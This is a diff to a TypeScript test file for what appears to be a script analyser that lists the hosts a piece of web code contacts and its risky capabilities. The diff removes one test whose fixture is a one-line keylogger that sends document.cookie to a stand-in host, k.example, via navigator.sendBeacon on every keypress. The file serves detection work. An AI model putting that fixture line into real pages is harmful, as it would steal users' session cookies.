@@ -1,7 +1,6 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { codeKey } from './code-key.ts'
-import { reachOf } from './code-reach.ts'
 
 const read = (code: string) => codeKey(code, 'vote.example')
 
@@ -74,13 +73,4 @@ test('scripts that a code takes in are named by their addresses', () => {
     '/sw.js',
     '/w.js',
   ])
-})
-
-test('a file of code says which hosts it names and what grave it can do', () => {
-  const code = String.raw`document.addEventListener("keydown",e=>navigator.sendBeacon("https:\/\/k.example/",document.cookie))`
-  assert.deepEqual(reachOf(code, 'vote.example'), {
-    hosts: ['k.example'],
-    graves: ['cookie', 'keys', 'sendBeacon'],
-  })
-  assert.deepEqual(reachOf('a=1', 'vote.example'), { hosts: [], graves: [] })
 })
